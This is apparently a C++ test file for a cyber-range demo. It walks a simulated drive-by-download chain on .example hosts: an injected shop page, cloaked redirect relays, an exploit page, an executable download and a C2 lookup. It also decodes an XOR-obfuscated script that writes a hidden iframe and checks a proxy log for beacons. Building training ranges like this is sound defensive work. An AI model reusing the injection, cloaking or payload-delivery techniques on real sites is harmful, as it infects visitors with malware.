// The demo's data agree with each other: the chain can be walked in its scenario, and the proxy log
// tells of the same URLs.
#include <gtest/gtest.h>

#include <cstdlib>

#include "range/testing.h"

namespace shikake::range {
namespace {

const std::filesystem::path demo = std::filesystem::path(SHIKAKE_SOURCE_DIR) / "demo";

constexpr const char* browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)";

TEST(Demo, ChainCanBeWalked) {
  auto scenario = Scenario::load(demo / "scenario.toml");
  ASSERT_TRUE(scenario) << scenario.error().message();
  TemporaryFolder folder;
  std::string script = "cd " + folder.path().string() + "\nfetch() { curl -sS -A '" + browser + R"sh(' "$@"; }
    shop=http://www.paper-lantern.example/
    fetch $shop > landing
    fetch https://static.quick-cdn.example/petal/1.4/petal.min.js > library
    fetch -e $shop -o /dev/null -w '%{http_code} %{redirect_url}\n' 'http://go.clicks-bureau.example/in?f=11' > relay1
    fetch -o /dev/null -w '%{http_code} %{redirect_url}\n' 'http://go.clicks-bureau.example/in?f=11' > cloaked
    fetch -e $shop 'http://www.weather-widgets.example/w/check.php?id=11' > relay2a
    fetch -b wsid=8f2a61 'http://www.weather-widgets.example/w/check.php?s=1' > relay2b
    fetch -L -o /dev/null -w '%{url_effective}\n' 'http://www.weather-widgets.example/w/check.php?s=1' > no_cookie
    fetch 'http://update.player-patch.example/view.php?id=11' > exploit
    fetch -D headers 'http://files.patch-mirror.example/get/player_update.exe?id=11' > program
    getent hosts sync.telemetry-hub.example > c2
    true
  )sh";
  auto status = run(*scenario, {"/bin/sh", "-c", script}, {.log = (folder.path() / "log").string()});
  if (!status && status.error().code == ErrorCode::unsupported) GTEST_SKIP() << status.error().message();
  ASSERT_TRUE(status) << status.error().message();
  ASSERT_EQ(*status, 0);
  auto holds = [&folder](const char* file, const char* part) {
    EXPECT_NE(folder.read(file).find(part), std::string::npos) << file << " lacks " << part;
  };
  holds("landing", "window['ev'+'al'](wz)");
  EXPECT_EQ(folder.read("landing").find("clicks-bureau"), std::string::npos);  // hidden from plain search
  holds("library", "petal 1.4");
  holds("relay1", "302 http://www.weather-widgets.example/w/check.php?id=11\n");
  holds("cloaked", "302 http://www.weather-widgets.example/\n");
  holds("relay2a", "location.href = '/w/check.php?s=1'");
  holds("relay2b", "url=http://update.player-patch.example/view.php?id=11");
  holds("no_cookie", "http://www.weather-widgets.example/\n");
  holds("exploit", "http://files.patch-mirror.example/get/player_update.exe?id=11");
  holds("headers", "Content-Type: application/octet-stream");
  EXPECT_EQ(folder.read("program"), folder.read(demo / "sites/distribution/player_update.exe"));
  EXPECT_EQ(folder.read("program").substr(0, 2), "MZ");
  EXPECT_EQ(folder.read("c2"), "");
}

// The script's numbers become the iframe of the first relay.
TEST(Demo, InjectedScriptWritesTheFirstRelay) {
  TemporaryFolder folder;
  std::string page = folder.read(demo / "sites/shop/index.html");
  size_t start = page.find("lq=[") + 4;
  std::string numbers = page.substr(start, page.find(']', start) - start);
  std::string decoded;
  for (char* at = numbers.data(); at < numbers.data() + numbers.size(); ++at) {
    decoded += static_cast<char>(std::strtol(at, &at, 10) ^ 23);
  }
  EXPECT_EQ(
      decoded,
      "document.write('<ifr'+'ame src=\"http://go.clicks-bureau.example/in?f=11\" width=\"1\" height=\"1\" "
      "style=\"visibility:hidden\"></ifr'+'ame>');");
}

TEST(Demo, ProxyLogIsWhatItsMakerMakes) {
  if (std::system("command -v python3 zcat > /dev/null") != 0) GTEST_SKIP() << "no python3 or zcat here";
  TemporaryFolder folder;
  std::string made = folder.path() / "made.gz";
  ASSERT_EQ(std::system(("python3 " + (demo / "make_proxy_log.py").string() + " " + made).c_str()), 0);
  ASSERT_EQ(std::system(("zcat " + made + " > " + made + ".txt; zcat " + (demo / "proxy.log.gz").string() +
                         " | cmp - " + made + ".txt")
                            .c_str()),
            0);
  std::string log = folder.read("made.gz.txt");
  auto lines = [&log](const std::string& client, const std::string& part) {
    size_t count = 0;
    for (size_t at = 0, end; (end = log.find('\n', at)) != log.npos; at = end + 1) {
      std::string_view line(log.data() + at, end - at);
      count += line.find(" " + client + " ") != line.npos && line.find(part) != line.npos;
    }
    return count;
  };
  struct Row {
    const char* client;
    size_t relay, exploit, program, beacons;
  };
  for (const Row& row :
       {Row{"10.20.2.31", 1, 0, 0, 0}, Row{"10.20.1.17", 1, 1, 1, 0}, Row{"10.20.3.44", 1, 1, 1, 85}}) {
    SCOPED_TRACE(row.client);
    EXPECT_EQ(lines(row.client, "GET http://www.paper-lantern.example/ "), 1u);
    EXPECT_EQ(lines(row.client, "GET http://go.clicks-bureau.example/in?f=11 "), row.relay);
    EXPECT_EQ(lines(row.client, "TCP_MISS/200 2110 GET http://update.player-patch.example/view.php?id=11 "),
              row.exploit);
    EXPECT_EQ(lines(row.client, "GET http://files.patch-mirror.example/get/player_update.exe?id=11 "),
              row.program);
    EXPECT_EQ(lines(row.client, "http://sync.telemetry-hub.example/"), row.beacons);
  }
  EXPECT_EQ(lines("10.20.2.31", "TCP_DENIED/403 3900 GET http://update.player-patch.example/view.php?id=11 "),
            1u);
}

}  // namespace
}  // namespace shikake::range
